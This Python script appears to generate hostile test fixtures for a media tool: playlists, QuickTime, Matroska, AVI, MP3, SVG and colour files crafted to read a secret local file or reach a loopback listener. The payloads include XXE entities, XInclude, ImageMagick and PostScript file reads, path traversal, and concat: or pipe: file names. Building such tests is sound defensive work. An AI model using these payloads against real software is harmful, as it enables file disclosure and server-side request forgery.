#!/usr/bin/env python3
"""Makes media files that ask their reader for something: hostile.py FIXTURE FOLDER SECRET PORT.
SECRET is a path without its extension; SECRET.txt, .wav, .ts and .mkv are there. PORT is one of the
loopback on which any connection is a failure.

Also: hostile.py listen FOLDER, which writes the port it got to FOLDER/port and one line for each
connection to FOLDER/connections, until it is killed."""
import os, pathlib, socket, struct, sys

FIXTURES = {}


def fixture(function):
    FIXTURES[function.__name__] = function
    return function


# ---------------------------------------------------------------- playlists and manifests

def m3u8(entry, before=""):
    return f"#EXTM3U\n#EXT-X-VERSION:3\n#EXT-X-TARGETDURATION:1\n{before}#EXTINF:1,\n{entry}\n#EXT-X-ENDLIST\n"


@fixture
def hls_of_a_file(put, secret, port):
    put("a.mp4", m3u8(f"file://{secret}.ts"))


@fixture
def hls_of_a_relative_file(put, secret, port):
    put("a.mkv", m3u8("../secret.ts"))


@fixture
def hls_of_an_address(put, secret, port):
    put("a.mp4", m3u8(f"http://127.0.0.1:{port}/a.ts"))


@fixture
def hls_with_a_key_elsewhere(put, secret, port):
    key = f'#EXT-X-KEY:METHOD=AES-128,URI="http://127.0.0.1:{port}/key"\n'
    put("a.mov", m3u8("../secret.ts", key))


@fixture
def hls_of_a_concat_address(put, secret, port):
    put("a.mp4", m3u8(f"concat:http://127.0.0.1:{port}/?|file://{secret}.txt"))


@fixture
def hls_master_playlist(put, secret, port):
    put("a.mp4", f"#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\nhttp://127.0.0.1:{port}/b.m3u8\n")


@fixture
def dash_manifest(put, secret, port):
    put("a.mp4", f"""<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static"
 mediaPresentationDuration="PT1S"><Period><BaseURL>http://127.0.0.1:{port}/</BaseURL><AdaptationSet
 mimeType="video/mp4"><Representation id="0" bandwidth="1"><BaseURL>a.mp4</BaseURL><SegmentBase
 indexRange="0-9"/></Representation></AdaptationSet></Period></MPD>""")


@fixture
def dash_manifest_without_a_declaration(put, secret, port):
    put("a.mp4", f"""<MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static"><Period><AdaptationSet>
<Representation id="0" bandwidth="1"><BaseURL>file://{secret}.mkv</BaseURL></Representation>
</AdaptationSet></Period></MPD>""")


@fixture
def ffconcat_of_a_path(put, secret, port):
    put("a.mp4", f"ffconcat version 1.0\nfile '{secret}.mkv'\n")


@fixture
def ffconcat_of_a_sibling(put, secret, port):
    put("a.mkv", "ffconcat version 1.0\nfile secret.mkv\n")
    put("secret.mkv.not-an-input", pathlib.Path(secret + ".mkv").read_bytes())


@fixture
def session_description(put, secret, port):
    put("a.mp4", f"v=0\no=- 0 0 IN IP4 127.0.0.1\ns=a\nc=IN IP4 127.0.0.1\nt=0 0\nm=video {port} RTP/AVP 96\na=rtpmap:96 H264/90000\n")


@fixture
def old_playlists(put, secret, port):
    put("a.wav", f"[playlist]\nFile1=http://127.0.0.1:{port}/a.wav\nNumberOfEntries=1\n")
    put("b.mp3", f'<asx version="3.0"><entry><ref href="http://127.0.0.1:{port}/"/></entry></asx>')
    put("c.mov", f"[Reference]\nRef1=http://127.0.0.1:{port}/a.mov?MSWMExt=.asf\n")
    put("d.mp4", f"RTSPtext rtsp://127.0.0.1:{port}/a\n")


@fixture
def smil_and_xinclude(put, secret, port):
    put("a.mov", f"""<?xml version="1.0"?><smil xmlns:xi="http://www.w3.org/2001/XInclude"><body>
<xi:include href="file://{secret}.txt" parse="text"/><video src="http://127.0.0.1:{port}/a"/></body></smil>""")


@fixture
def names_that_look_like_addresses(put, secret, port):
    for name in (f"http:/127.0.0.1:{port}/a.mp4", "concat:secret.txt|a.mkv", "subfile,,start,0,end,9,,:a.mov",
                 "-.wav", "pipe:0.mkv", "file:secret.mp4", "data:video,a.mp4", "a%03d.png", "b.png[page=1].png"):
        put(name, b"\0" * 64)


# ---------------------------------------------------------------- QuickTime

def atom(kind, *parts):
    body = b"".join(parts)
    return struct.pack(">I4s", len(body) + 8, kind) + body


def full(kind, *parts, version=0, flags=0):
    return atom(kind, struct.pack(">I", version << 24 | flags), *parts)


def movie(reference, samples=4800):
    """A second of a sound track whose samples are in the file that `reference` names."""
    matrix = struct.pack(">9i", 1 << 16, 0, 0, 0, 1 << 16, 0, 0, 0, 1 << 30)
    mvhd = full(b"mvhd", struct.pack(">IIII", 0, 0, 4800, samples), struct.pack(">IH10x", 1 << 16, 256), matrix, b"\0" * 24, struct.pack(">I", 2))
    tkhd = full(b"tkhd", struct.pack(">IIIII", 0, 0, 1, 0, samples), b"\0" * 8, struct.pack(">HHH2x", 0, 0, 256), matrix, b"\0" * 8, flags=7)
    mdhd = full(b"mdhd", struct.pack(">IIIIHH", 0, 0, 4800, samples, 0, 0))
    hdlr = full(b"hdlr", b"mhlrsoun", b"\0" * 13)
    entry = struct.pack(">I4s6xHHHIHHHHI", 36, b"sowt", 1, 0, 0, 0, 1, 16, 0, 0, 4800 << 16)
    stbl = atom(b"stbl", full(b"stsd", struct.pack(">I", 1), entry), full(b"stts", struct.pack(">III", 1, samples, 1)),
                full(b"stsc", struct.pack(">IIII", 1, 1, samples, 1)), full(b"stsz", struct.pack(">II", 2, samples)),
                full(b"stco", struct.pack(">II", 1, 44)))
    dinf = atom(b"dinf", full(b"dref", struct.pack(">I", 1), reference))
    minf = atom(b"minf", full(b"smhd", b"\0" * 4), dinf, stbl)
    trak = atom(b"trak", tkhd, atom(b"mdia", mdhd, hdlr, minf))
    return atom(b"ftyp", b"qt  ", b"\0\0\0\0", b"qt  ") + atom(b"moov", mvhd, trak) + atom(b"mdat", b"\0" * 2 * samples)


def alias(path):
    """An alias record with the POSIX path (18) and the absolute HFS path (2)."""
    name = os.path.basename(path).encode()
    record = struct.pack(">4sHHH", b"\0" * 4, 0, 2, 0) + bytes([1]) + b"v".ljust(27, b"\0")
    record += struct.pack(">IHHI", 0, 0x482B, 0, 2) + bytes([len(name)]) + name.ljust(63, b"\0")
    record += struct.pack(">II4s4sHHI2x10x", 1, 0, b"", b"", 1, 1, 0)
    for kind, text in ((2, path.replace("/", ":").encode()), (18, path.encode()), (19, b"/")):
        record += struct.pack(">hH", kind, len(text)) + text + b"\0" * (len(text) % 2)
    return record + struct.pack(">hH", -1, 0)


@fixture
def mov_with_data_behind_a_url(put, secret, port):
    put("a.mov", movie(full(b"url ", f"file://{secret}.wav".encode() + b"\0")))
    put("b.mov", movie(full(b"url ", f"http://127.0.0.1:{port}/a.wav".encode() + b"\0")))


@fixture
def mov_with_data_behind_an_alias(put, secret, port):
    put("a.mov", movie(full(b"alis", alias(secret + ".wav"))))


@fixture
def mov_with_data_behind_a_resource(put, secret, port):
    put("a.mov", movie(full(b"rsrc", alias(secret + ".wav"))))


@fixture
def reference_movie(put, secret, port):
    def reference(kind, data):
        return atom(b"rmda", full(b"rdrf", kind, struct.pack(">I", len(data)), data))
    references = reference(b"url ", f"http://127.0.0.1:{port}/a.mov\0".encode()) + reference(b"alis", alias(secret + ".mkv"))
    put("a.mov", atom(b"ftyp", b"qt  ", b"\0\0\0\0", b"qt  ") + atom(b"moov", atom(b"rmra", references)))


# ---------------------------------------------------------------- Matroska

def ebml(kind, body):
    if isinstance(body, int):
        body = body.to_bytes(max(1, (body.bit_length() + 7) // 8), "big")
    elif isinstance(body, float):
        body = struct.pack(">d", body)
    elif isinstance(body, str):
        body = body.encode()
    elif isinstance(body, list):
        body = b"".join(body)
    return bytes.fromhex(kind) + struct.pack(">Q", len(body) | 1 << 56) + body


def matroska(info, more):
    head = ebml("1A45DFA3", [ebml("4282", "matroska"), ebml("4287", 4), ebml("4285", 2)])
    track = ebml("AE", [ebml("D7", 1), ebml("73C5", 1), ebml("83", 2), ebml("86", "A_PCM/INT/LIT"),
                        ebml("E1", [ebml("B5", 8000.0), ebml("9F", 1), ebml("6264", 16)])])
    block = ebml("A3", b"\x81\0\0\x80" + b"\0" * 1600)
    segment = [ebml("1549A966", [ebml("2AD7B1", 1000000), ebml("4489", 100.0), ebml("4D80", "x"), ebml("5741", "x")] + info),
               ebml("1654AE6B", [track])] + more + [ebml("1F43B675", [ebml("E7", 0), block])]
    return head + ebml("18538067", segment)


@fixture
def mkv_with_linked_segments(put, secret, port):
    uid = b"S" * 16
    edition = [ebml("45DD", 1), ebml("B6", [ebml("73C4", 1), ebml("91", 0), ebml("92", 10**9), ebml("6E67", uid)])]
    links = [ebml("73A4", b"O" * 16), ebml("3EB923", uid), ebml("3E83BB", f"{secret}.mkv"), ebml("3CB923", uid), ebml("3C83AB", "../secret.mkv")]
    put("a.mkv", matroska(links, [ebml("1043A770", [ebml("45B9", edition)])]))


@fixture
def mkv_with_attachments(put, secret, port):
    names = ("../../escaped.ttf", "/tmp/rushes-escaped.ttf", f"{secret}.txt")
    files = [ebml("61A7", [ebml("466E", name), ebml("4660", "font/ttf"), ebml("465C", b"x"), ebml("46AE", 1)]) for name in names]
    put("a.mkv", matroska([], [ebml("1941A469", files)]))


@fixture
def mkv_with_tags_that_are_paths(put, secret, port):
    tags = [ebml("7373", [ebml("63C0", b""), ebml("67C8", [ebml("45A3", name), ebml("4487", value)])])
            for name, value in (("TITLE", "../../escaped"), ("TIMECODE", "../../escaped"), ("REEL_NAME", "../../escaped"), ("FILENAME", secret + ".txt"))]
    put("a.mkv", matroska([], [ebml("1254C367", tags)]))


# ---------------------------------------------------------------- AVI, sound

def chunk(kind, *parts):
    body = b"".join(parts)
    return kind + struct.pack("<I", len(body)) + body + b"\0" * (len(body) % 2)


@fixture
def avi_with_a_gab2_playlist(put, secret, port):
    def stream(kind, handler, rate, length, format):
        strh = struct.pack("<4s4sIHHIIIIIIII4h", kind, handler, 0, 0, 0, 0, 1, rate, 0, length, 0, 0, 0, 0, 0, 16, 16)
        return chunk(b"LIST", b"strl", chunk(b"strh", strh), chunk(b"strf", format))
    playlist = m3u8(f"http://127.0.0.1:{port}/a.ts").encode() + m3u8(f"file://{secret}.ts").encode()
    gab2 = b"GAB2\0" + struct.pack("<HI", 2, 0) + struct.pack("<HI", 4, len(playlist)) + playlist
    bitmap = struct.pack("<IiiHHIIiiII", 40, 16, 16, 1, 24, 0, 768, 0, 0, 0, 0)
    avih = struct.pack("<14I", 40000, 0, 0, 16, 1, 0, 2, 0, 16, 16, 0, 0, 0, 0)
    hdrl = chunk(b"LIST", b"hdrl", chunk(b"avih", avih), stream(b"vids", b"DIB ", 25, 1, bitmap), stream(b"txts", b"\0" * 4, 1, 1, b""))
    put("a.avi", chunk(b"RIFF", b"AVI ", hdrl, chunk(b"LIST", b"movi", chunk(b"00db", b"\x80" * 768), chunk(b"01tx", gab2))))


@fixture
def mp3_with_a_linked_cover(put, secret, port):
    def frame(kind, body):
        return kind + struct.pack(">IH", len(body), 0) + body
    cover = frame(b"APIC", b"\0-->\0\3\0" + f"http://127.0.0.1:{port}/cover.jpg".encode()) + frame(b"WOAF", f"file://{secret}.txt".encode())
    size = len(cover)
    head = b"ID3\3\0\0" + bytes([size >> 21 & 127, size >> 14 & 127, size >> 7 & 127, size & 127])
    put("a.mp3", head + cover + (b"\xff\xfb\x90\xc4" + b"\0" * 413) * 20)


# ---------------------------------------------------------------- stills

@fixture
def svg_with_links(put, secret, port):
    links = "".join(f'<image width="9" height="9" {attribute}="{target}"/>' for attribute in ("href", "xlink:href")
                    for target in (f"file://{secret}.txt", f"http://127.0.0.1:{port}/a.png", f"{secret}.txt"))
    text = f'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="9" height="9">{links}</svg>'
    for name in ("a.svg", "a.png", "a.jpg"):
        put(name, text)
    put("b.png", "\ufeff  \n" + text)


@fixture
def svg_with_an_entity_and_xinclude(put, secret, port):
    text = f"""<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file://{secret}.txt"><!ENTITY y SYSTEM "http://127.0.0.1:{port}/">]>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xi="http://www.w3.org/2001/XInclude" width="99" height="20">
<text y="15">&x;&y;<xi:include href="file://{secret}.txt" parse="text"/></text></svg>"""
    put("a.svg", text)
    put("a.jpg", text)


@fixture
def scripts_of_other_readers(put, secret, port):
    put("a.jpg", f"push graphic-context\nviewbox 0 0 9 9\nimage over 0,0 0,0 'label:@{secret}.txt'\npop graphic-context\n")
    put("b.png", f"%!PS\n({secret}.txt) (r) file 99 string readstring pop show showpage\n")
    put("c.tif", f"%PDF-1.4\n1 0 obj<</F({secret}.txt)/URI(http://127.0.0.1:{port}/)>>endobj\n")
    put("d.png", f"id=ImageMagick\nmsl:{secret}.txt\n")


# ---------------------------------------------------------------- colour

@fixture
def cdl_with_an_entity_and_xinclude(put, secret, port):
    put("a.cdl", f"""<?xml version="1.0"?><!DOCTYPE ASC_CDL [<!ENTITY x SYSTEM "file://{secret}.txt"><!ENTITY % y SYSTEM "http://127.0.0.1:{port}/">%y;]>
<ColorDecisionList xmlns="urn:ASC:CDL:v1.01" xmlns:xi="http://www.w3.org/2001/XInclude"><ColorDecision><ColorCorrection id="&x;"><SOPNode>
<Slope>1 1 1</Slope><Offset>0 0 0</Offset><Power>1 1 1</Power><Description>&x;<xi:include href="file://{secret}.txt" parse="text"/></Description>
</SOPNode></ColorCorrection></ColorDecision></ColorDecisionList>""")


def listen(folder):
    server = socket.create_server(("127.0.0.1", 0))
    (folder / "port.new").write_text(str(server.getsockname()[1]))
    (folder / "port.new").rename(folder / "port")
    with open(folder / "connections", "w", buffering=1) as log:
        while True:
            peer, address = server.accept()
            log.write(f"{address}\n")
            peer.close()


def main():
    if sys.argv[1] == "listen":
        listen(pathlib.Path(sys.argv[2]))
    name, folder, secret, port = sys.argv[1:]

    def put(file, data):
        path = pathlib.Path(folder, file)
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data.encode() if isinstance(data, str) else data)

    FIXTURES[name](put, secret, port)


main()
